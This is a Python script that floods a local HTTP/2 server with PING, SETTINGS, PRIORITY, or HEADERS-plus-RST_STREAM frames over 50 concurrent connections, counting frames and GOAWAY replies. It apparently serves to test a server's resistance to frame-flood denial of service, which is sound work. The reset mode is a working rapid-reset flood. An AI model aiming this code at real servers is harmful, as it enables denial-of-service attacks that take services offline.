"""A client that floods: opens connections of HTTP/2, sends frames of one kind on each until it is closed, and opens the next.

    flood.py ping|settings|priority|reset PORT HOST

On SIGTERM it says in JSON how many connections and frames there were, and how many connections were ended by GOAWAY.
"""

import json
import os
import signal
import socket
import sys
import threading

from hpack import Encoder
from hyperframe.frame import Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
AT_ONCE = 50  # connections
BATCH = 100  # frames in one write
counts = {"connections": 0, "frames": 0, "goaway": 0}


def stop(*_):
    print(json.dumps(counts), flush=True)
    os._exit(0)


def batch(kind, host, stream):
    """Frames of one write, and the next stream that may be used."""
    frames = []
    for _ in range(BATCH):
        if kind == "ping":
            frames.append(PingFrame(0, opaque_data=b"12345678"))
        elif kind == "settings":
            frames.append(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}))
        elif kind == "priority":
            frames.append(PriorityFrame(stream, depends_on=0, stream_weight=16, exclusive=False))
        else:
            head = [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", "/")]
            # A table that grows would have to be the same for every connection.
            block = Encoder().encode(head, huffman=False)
            frames.append(HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"]))
            frames.append(RstStreamFrame(stream, error_code=8))
            stream += 2
    return b"".join(frame.serialize() for frame in frames), len(frames), stream


def has_goaway(answer):
    while len(answer) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(answer[:9]))
        if isinstance(frame, GoAwayFrame):
            return True
        answer = answer[9 + length :]
    return False


def attack(kind, port, host):
    connection = socket.create_connection(("127.0.0.1", port))
    counts["connections"] += 1
    connection.sendall(PREFACE + SettingsFrame(0).serialize())
    connection.setblocking(False)
    stream, answer, is_open = 1, b"", True
    while is_open:
        data, number, stream = batch(kind, host, stream)
        connection.setblocking(True)
        try:
            connection.sendall(data)
            counts["frames"] += number
        except OSError:
            is_open = False
        connection.setblocking(False)
        try:
            while read := connection.recv(65536):
                answer += read
            is_open = False
        except BlockingIOError:
            pass
        except OSError:
            is_open = False
    counts["goaway"] += has_goaway(answer)
    connection.close()


def attack_on(kind, port, host):
    while True:
        attack(kind, port, host)


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, stop)
    for _ in range(AT_ONCE):
        threading.Thread(target=attack_on, args=(sys.argv[1], int(sys.argv[2]), sys.argv[3]), daemon=True).start()
    signal.pause()
